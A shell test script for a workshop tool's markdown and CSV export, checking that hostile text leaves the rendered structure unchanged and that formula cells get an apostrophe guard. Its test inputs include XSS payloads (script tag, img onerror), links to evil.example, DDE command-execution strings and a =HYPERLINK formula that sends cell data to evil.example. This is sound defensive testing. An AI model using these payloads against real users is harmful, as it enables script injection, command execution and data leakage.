#!/bin/sh
# export-markup.sh: text full of markdown and spreadsheet syntax changes
# nothing in the structure of an export.
#
# The same workshop is filled twice through the command line: once with
# hostile text in every field the markdown export shows (headings, quotes,
# list and ordered-list markers, pipes, emphasis, code fences, links,
# images, autolinks, raw HTML, entities, line breaks, letters whose code
# points end in the byte of a markdown character, emoji), once with plain
# words. Rendered by a real GFM renderer (cmark-gfm with GitHub's
# extensions and raw HTML let through), both must give the same elements
# in the same numbers: the same headings, tables, rows and cells, list
# items, no script, image or HTML from the text, links only where a URL
# is shown as itself. The CSV export must put an apostrophe before every
# cell a spreadsheet would run, leave it off with --csv-raw, and import
# must take it off again.
# shellcheck disable=SC2034 # H1..H13 are read through eval in T
. "${JH_SRCDIR:?}/tests/reliability/lib.sh"

CMARK=${CMARK_GFM_BIN-$(command -v cmark-gfm || true)}
[ -n "$CMARK" ] && [ -x "$CMARK" ] ||
	skip "cmark-gfm is needed to render the markdown (apt-get install cmark-gfm; scripts/deps.sh installs it)"
checks=0

NL='
'
# The hostile texts, one per field below; T N gives text N in this mode.
H1="# INJ heading${NL}## second${NL}> quote"
H2="| INJ | pipe | row |${NL}| --- | --- | --- |"
H3="- INJ item${NL}+ plus${NL}* star${NL}1. one${NL}2) two"
H4="<script>alert(1)</script> INJ <img src=x onerror=alert(1)>"
H5="[INJ link](http://evil.example/a) ![img](http://evil.example/i.png) [ref]: http://evil.example"
H6="\`\`\`${NL}INJ fence${NL}~~~${NL}    indented code"
H7="**INJ bold** _em_ ~~strike~~ \`code\` \$math\$ &amp; &#x3C;b&#x3E; \\ \\| [^1]"
H8="Šķērslis Āboliņš ļoti şikayet żółw Ťažké 😀 👩‍💻 🇱🇻"
H9="<http://evil.example/auto> https://evil.example/a_b*c* www.evil.example INJ@evil.example <!-- INJ --> <div>block</div>${NL}---${NL}==="
H10="=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
H11="+1+cmd|' /C calc'!A0"
H12="@SUM(1+1)*cmd|' /C calc'!A0"
H13="-2+3"
MODE=hostile
T() {
	if [ "$MODE" = hostile ]; then
		eval "printf '%s' \"\$H$1\""
	else
		printf 'plain words %s' "$1"
	fi
}

fill() { # DB
	db=$1
	jh -d "$db" new w -t payment-moment >/dev/null || die "new workshop"
	# The template brings journey 1 with touchpoints 1..5; ours are journey 2, touchpoints 6 and 7.
	jh -d "$db" set w workshop w "title=$(T 1)" "description=$(T 2)" >/dev/null ||
		die "workshop title"
	jh -d "$db" add w participant "name=$(T 8)" "department=$(T 2)" >/dev/null || die "participant"
	jh -d "$db" add w participant "name=$(T 4)" "department=$(T 9)" >/dev/null || die "participant 2"
	jh -d "$db" add w journey "name=$(T 3)" "description=$(T 5)" "stages=A,B" >/dev/null ||
		die "journey"
	jh -d "$db" add w touchpoint journey=2 stage=A "name=$(T 6)" "channel=$(T 7)" \
		"owner=$(T 8)" score=-2 reach=80 potential=3 >/dev/null || die "touchpoint"
	jh -d "$db" add w touchpoint journey=2 stage=B "name=$(T 9)" "channel=$(T 4)" \
		score=-1 reach=50 potential=0 >/dev/null || die "touchpoint 2"
	jh -d "$db" add w painpoint touchpoint=6 "title=$(T 1)" "evidence=$(T 2)" >/dev/null ||
		die "painpoint"
	jh -d "$db" add w painpoint "title=$(T 10)" "evidence=$(T 5)" >/dev/null || die "painpoint 2"
	for i in 3 4 5 6 7; do
		jh -d "$db" add w idea "title=$(T $i)" "belief=$(T 1)" "experiment=$(T 2)" \
			"metric=$(T 9)" "success=$(T 8)" painpoints=1 >/dev/null || die "idea $i"
	done
	jh -d "$db" add w idea "title=$(T 11)" >/dev/null || die "idea 11"
	jh -d "$db" add w action idea=1 "title=$(T 12)" "owner=$(T 13)" "notes=$(T 10)" \
		due=2026-12-01 >/dev/null || die "action"
	for i in 1 2 3 4 5 6 7 8 9; do
		jh -d "$db" add w action idea=2 "title=$(T $i)" "owner=$(T 8)" >/dev/null ||
			die "action $i"
	done
	jh -d "$db" add w parking "text=$(T 3)" answered=yes "answer=$(T 9)" >/dev/null ||
		die "parking"
}

MODE=plain
fill "$WORK/plain.db"
MODE=hostile
fill "$WORK/hostile.db"

# Elements of the rendered HTML and how many of each.
elements() {
	grep -o '<[a-z][a-z0-9]*[ >/]' "$1" | tr -d ' >/' | sort | uniq -c
}

render() { # DB REPORT OUT
	jh -d "$1" export w -r "$2" >"$3.md" || die "export -r $2 failed"
	"$CMARK" --unsafe -e table -e strikethrough -e autolink -e tagfilter -e tasklist \
		"$3.md" >"$3.html" || die "cmark-gfm failed on $3.md"
}

for report in report backlog actions; do
	render "$WORK/plain.db" $report "$WORK/plain-$report"
	render "$WORK/hostile.db" $report "$WORK/hostile-$report"
	h="$WORK/hostile-$report.html"
	# Links: only e-mail addresses shown as themselves (GFM autolinks
	# them); compare the rest of the structure without them and without
	# the <br> that stand for line breaks inside a cell or an item.
	grep -o '<a href="[^"]*">[^<]*</a>' "$h" | while IFS= read -r a; do
		href=${a#<a href=\"}
		href=${href%%\"*}
		text=${a#*\">}
		text=${text%</a>}
		case "$href" in
		"mailto:$text") ;;
		*) echo "$a" ;;
		esac
	done >"$WORK/links"
	[ -s "$WORK/links" ] && die "-r $report: a link that hides where it goes: $(head -n 1 "$WORK/links")"
	elements "$WORK/plain-$report.html" | grep -v -e ' <a$' -e ' <br$' >"$WORK/plain.el"
	elements "$h" | grep -v -e ' <a$' -e ' <br$' >"$WORK/hostile.el"
	if ! cmp -s "$WORK/plain.el" "$WORK/hostile.el"; then
		diff "$WORK/plain.el" "$WORK/hostile.el" >&2
		die "-r $report: hostile text changed the rendered structure (elements above)"
	fi
	for bad in '<script' '<img' '<div' '<!--' '<b>' '<h1>INJ' '<h2>second'; do
		grep -qF "$bad" "$h" && die "-r $report: \"$bad\" came through as HTML"
	done
	# No backslash before a letter beyond ASCII, and the letters shown.
	LC_ALL=C grep -q "$(printf '\\\\[\200-\377]')" "$WORK/hostile-$report.md" &&
		die "-r $report: a backslash before a non-ASCII letter: $(LC_ALL=C grep -o "$(printf '\\\\[\200-\377].\\{0,8\\}')" "$WORK/hostile-$report.md" | head -n 3 | tr '\n' ' ')"
	grep -qF "Šķērslis Āboliņš ļoti şikayet żółw Ťažké 😀 👩‍💻 🇱🇻" "$h" ||
		die "-r $report: the Latvian, Turkish and Polish letters and emoji are not shown as written"
	tables=$(grep -c '<table>' "$h")
	rows=$(grep -c '<tr>' "$h")
	echo "export -r $report: $tables tables, $rows rows, $(grep -c '<li' "$h") list items, same structure as plain text"
	checks=$((checks + 5))
done

# CSV: the apostrophe guard, --csv-raw, and import taking it off.
jh -d "$WORK/hostile.db" export w -f csv >"$WORK/a.csv" || die "csv export"
jh -d "$WORK/hostile.db" export w -f csv --csv-raw >"$WORK/raw.csv" || die "csv --csv-raw export"
jh -d "$WORK/hostile.db" export w -f csv -r backlog >"$WORK/b.csv" || die "csv backlog export"
grep -qF ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"" "$WORK/a.csv" ||
	die "=HYPERLINK went out without the apostrophe"
grep -qF ",'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3," "$WORK/a.csv" ||
	die "@SUM or -2+3 went out without the apostrophe"
grep -qF ",\"'+1+cmd|' /C calc'!A0\"," "$WORK/b.csv" || grep -qF ",'+1+cmd|' /C calc'!A0," "$WORK/b.csv" ||
	die "+1+cmd went out without the apostrophe"
grep -qF ",@SUM(1+1)*cmd|' /C calc'!A0,-2+3," "$WORK/raw.csv" || die "--csv-raw changed a cell"
jh -d "$WORK/hostile.db" export w --csv-raw >/dev/null 2>&1 && die "--csv-raw was taken for markdown"
printf "title,owner,notes\r\n'=1+1,'-Anna,'quoted on purpose\r\n\"''+2\",@x,'\r\n" >"$WORK/actions.csv"
jh -d "$WORK/plain.db" import w "$WORK/actions.csv" --kind actions >/dev/null || die "csv import"
JQ=${JQ_BIN:-$(command -v jq || true)}
if [ -n "$JQ" ]; then
	got=$(jh -d "$WORK/plain.db" export w -f json | "$JQ" -r '.actions[-2:] | map(.title, .owner, .notes) | join("|")')
	[ "$got" = "=1+1|-Anna|'quoted on purpose|'+2|@x|'" ] ||
		die "import did not take off exactly the export's apostrophes: $got"
	checks=$((checks + 1))
fi
checks=$((checks + 5))
echo "export-markup: $checks checks passed"
